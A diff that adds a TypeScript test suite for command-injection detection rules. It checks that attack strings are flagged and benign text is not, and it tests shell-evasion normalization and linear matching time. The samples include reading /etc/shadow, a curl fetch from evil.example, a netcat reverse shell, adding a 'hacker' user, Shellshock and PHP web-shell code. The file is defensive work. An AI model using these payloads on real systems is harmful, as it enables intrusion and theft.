@@ -1,0 +1,101 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { rules, shellNormalize } from './cmdi.ts';
+import { matchAll, timeAll, ruleMetaProblems } from './lib/testing.ts';
+
+test('rule metadata is well formed', () => {
+  assert.deepEqual(ruleMetaProblems(rules), []);
+});
+
+test('detects commands after separators, substitutions and evasions', () => {
+  const attacks = [
+    'foo;id',
+    'x; id;',
+    'a | cat /etc/shadow',
+    "'| uname -a",
+    'x && dir c:\\',
+    'x || whoami',
+    'x%0aid',
+    'host%0Als -la /',
+    '1.2.3.4 & ping -n 30 127.0.0.1 &',
+    '`id`',
+    'a=$(whoami)',
+    '$(curl -s http://evil.example/x.sh)',
+    "x;c''at /etc/hosts",
+    'x;c\\at /etc/hosts',
+    'x;cat$IFS/etc/hosts',
+    'x;cat${IFS}/etc/hosts',
+    'x;{cat,/etc/hosts}',
+    'x;/???/??t /etc/hosts',
+    'x;/usr/bin/id',
+    'x | type C:\\boot.ini',
+    'x & net user hacker P4ss /add',
+    'x; powershell -enc SQBFAFgA',
+    'cmd /c whoami',
+    '() { :;}; /bin/bash -c "id"',
+    'x; sleep 10',
+    'x; nc -e /bin/sh 10.0.0.1 4444',
+    'who^ami & ver',
+  ];
+  for (const a of attacks) assert.ok(matchAll(rules, a).length > 0, `missed ${a}`);
+});
+
+test('detects values that are command lines, and PHP code', () => {
+  const attacks = [
+    'cat /etc/hosts',
+    'ls -la /var/www',
+    'nc -lvvp 4444 -e /bin/sh',
+    'whoami',
+    'ipconfig /all',
+    'ping -c 30 127.0.0.1',
+    '<?php system($_GET["c"]); ?>',
+    "system('id')",
+    'shell_exec("ls")',
+    'phpinfo()',
+    '${@print(md5(x))}',
+    '{${phpinfo()}}',
+    "os.system('id')",
+  ];
+  for (const a of attacks) assert.ok(matchAll(rules, a).length > 0, `missed ${a}`);
+});
+
+test('does not flag benign text, code spans and ordinary field values', () => {
+  const benign = [
+    'Tom & Jerry',
+    'R&D; type A and B',
+    'fish & chips | more later',
+    'See the `id` and `type` fields; they are required.',
+    'id',
+    'pwd',
+    'hostname',
+    'name,id,email',
+    'last / lowest priority',
+    'java --version',
+    'print("hello from a python script!")',
+    'The system (as designed) works',
+    'Please ping me at 5pm; cat lovers welcome',
+    'Sleep well; see you tomorrow',
+    'Q&A session',
+    'C:\\Users\\report.docx',
+    'echo chamber',
+    'x=1&y=2',
+  ];
+  for (const b of benign) assert.deepEqual(matchAll(rules, b), [], `false positive on ${b}`);
+  // paranoia 2 adds the looser start-of-value rule
+  assert.ok(matchAll(rules, 'java --version', 'query', 2).includes('932160'));
+});
+
+test('shellNormalize removes quote, backslash and IFS evasions', () => {
+  assert.equal(shellNormalize("c''at"), 'cat');
+  assert.equal(shellNormalize('c\\at'), 'cat');
+  assert.equal(shellNormalize('cat$IFS/etc'), 'cat /etc');
+  assert.equal(shellNormalize('{cat,/etc/x}').trim(), 'cat /etc/x');
+});
+
+test('linear time on 64 KiB pathological input', () => {
+  const inputs = [';'.repeat(65536), '; id'.repeat(16384).slice(0, 65536), '`'.repeat(65536), '$('.repeat(32768), "c''".repeat(21845), '{cat,'.repeat(13107), '/?'.repeat(32768), 'system('.repeat(9362), '()'.repeat(32768), 'a'.repeat(65536)];
+  for (const s of inputs) {
+    const ms = timeAll(rules, s);
+    assert.ok(ms < 2000, `took ${ms} ms`);
+  }
+});
